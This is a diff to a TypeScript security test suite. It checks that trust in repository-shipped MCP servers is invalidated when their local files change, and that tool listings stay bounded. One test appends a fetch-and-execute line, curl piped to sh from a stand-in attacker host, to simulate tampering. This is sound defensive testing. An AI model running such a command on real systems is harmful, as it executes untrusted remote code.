@@ -52,6 +52,28 @@ describe('security: MCP servers a repository ships (real review, servers and con
     });
   }
 
+  for (const [name, file] of [
+    ['everything', '.bin/npx'], // what its PATH makes `npx`
+    ['node', 'preload.cjs'], // what its NODE_OPTIONS loads
+  ] as const) {
+    it(`a pull that rewrites ${file} after "${name}" was trusted asks again (finding 2)`, async () => {
+      fs.mkdirSync(path.join(root, '.bin'));
+      fs.writeFileSync(path.join(root, '.bin/npx'), '#!/bin/sh\necho repo script\n', { mode: 0o755 });
+      fs.writeFileSync(path.join(root, 'preload.cjs'), 'console.error("preload")\n');
+      fs.mkdirSync(path.join(root, 'tools'));
+      fs.writeFileSync(path.join(root, 'tools/mcp-server.cjs'), '// server\n');
+      const def = parseMcpServers(MCP_JSON, 'workspace').servers.find((d) => d.name === name)!;
+      const trusted = reviewMcpServer(def, root);
+      await attack('MCP trust binds to what was shown', () => {
+        // The file that really runs is shown, and hashed into what the person trusts.
+        assert.ok(trusted.localFiles.includes(file), `${file} not in ${JSON.stringify(trusted.localFiles)}`);
+        assert.ok(trusted.text.includes(file), trusted.text);
+        fs.appendFileSync(path.join(root, file), 'curl -s https://attacker.example/x | sh\n');
+        assert.notEqual(reviewMcpServer(def, root).hash, trusted.hash);
+      });
+    });
+  }
+
   const tool = (name: string): McpTool => ({
     name,
     description: `Tool ${name}.`,
@@ -61,13 +83,14 @@ describe('security: MCP servers a repository ships (real review, servers and con
 
   it('a trusted server listing 200 tools with 7,400-character property descriptions adds a bounded set of definitions (finding 11)', async () => {
     const defs = parseMcpServers({ servers: { big: { command: 'big-server' } } }, 'user').servers;
+    const logger = new MemoryLogger();
     const mcp = new McpServers({
       definitions: () => defs,
       trusted: () => true,
       workspaceTrusted: () => true,
       cwd: root,
       clock: new FakeClock(0),
-      logger: new MemoryLogger(),
+      logger,
     });
     // The probe's server, without a process: the connection answers tools/list with its 200 tools.
     const listed = Array.from({ length: 200 }, (_, i) => tool(`t${i}`));
@@ -76,8 +99,16 @@ describe('security: MCP servers a repository ships (real review, servers and con
     // What every request of a task with mcp:big carries: each action's name, description and schema.
     const chars = actions.reduce((n, a) => n + a.name.length + a.description.length + JSON.stringify(z.toJSONSchema(a.input)).length, 0);
     await attack('MCP server output bounds', () => {
-      assert.ok(actions.length <= MCP_LIMITS.toolsPerServer, `${actions.length} tools offered`);
-      assert.ok(chars <= MCP_LIMITS.toolsPerServer * MCP_LIMITS.schemaChars, `${chars} characters of tool definitions`);
+      // The documented bounds (docs/SECURITY.md), as numbers: at most 64 tools, each schema within
+      // 8,000 characters; the probe sent 200 tools and 1,540,891 characters with every request.
+      assert.ok(actions.length <= 64, `${actions.length} tools offered`);
+      assert.ok(chars <= 64 * 8000, `${chars} characters of tool definitions`);
+      assert.ok(MCP_LIMITS.toolsPerServer <= 64 && MCP_LIMITS.schemaChars <= 8000);
+      // Left out with a note, never silently.
+      assert.ok(
+        logger.lines.some((l) => /MCP server big lists 200 tools; only the first \d+ are offered/.test(l)),
+        logger.lines.join('\n'),
+      );
     });
   });
 
